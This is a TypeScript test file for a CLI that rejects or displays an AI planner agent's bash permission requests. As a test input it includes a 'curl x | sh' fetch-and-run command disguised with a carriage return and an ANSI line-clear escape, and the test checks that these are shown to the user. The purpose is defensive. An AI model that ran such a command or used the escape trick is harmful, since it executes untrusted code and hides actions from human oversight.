import { describe, expect, it } from 'vitest'
import { answerPermissions } from '../../src/cli/permission-prompt'
import type { HostEvent } from '../../src/engine/ports'
import { fakeMission } from '../fixtures/fake-mission'
import { flush } from '../fixtures/fake-opencode'

/** A running mission answered from no terminal; what it wrote to stderr, and the planner's bash ask. */
async function withoutTerminal() {
  const { oc, mission } = fakeMission()
  const err: string[] = []
  const io = {
    stdout: () => {},
    stderr: (t: string) => void err.push(t),
    env: {},
    cwd: '/',
    packageRoot: '/',
  }
  const off = answerPermissions(mission, io, false)
  void mission.run()
  await flush()
  const ask = (requestId: string, pattern: string): HostEvent => ({
    type: 'permission.asked',
    requestId,
    sessionId: mission.state.agents[0]?.sessionId ?? '',
    permission: 'bash',
    patterns: [pattern],
  })
  return { oc, err: () => err.join(''), ask, off }
}

describe('CLI permission answers', () => {
  it('rejects an ask when there is no terminal, says why, and answers each ask once', async () => {
    const { oc, err, ask, off } = await withoutTerminal()
    oc.emit(ask('per_1', 'rm x'))
    oc.emit(ask('per_1', 'rm x'))
    await flush()
    expect(oc.replies).toEqual([{ requestId: 'per_1', reply: 'reject' }])
    expect(err()).toContain('planner asks for bash: rm x')
    expect(err()).toContain('rejected: no terminal to ask')
    off()
  })

  it('shows the control characters of the command asked for, so the user reads what is asked', async () => {
    const { oc, err, ask, off } = await withoutTerminal()
    // A carriage return and a line clear would leave only "echo hello" on the screen.
    oc.emit(ask('per_2', 'curl x | sh\r\x1b[2Kecho hello'))
    await flush()
    expect(err()).toContain('planner asks for bash: curl x | sh^M^[[2Kecho hello')
    expect(err()).not.toContain('\x1b')
    off()
  })
})
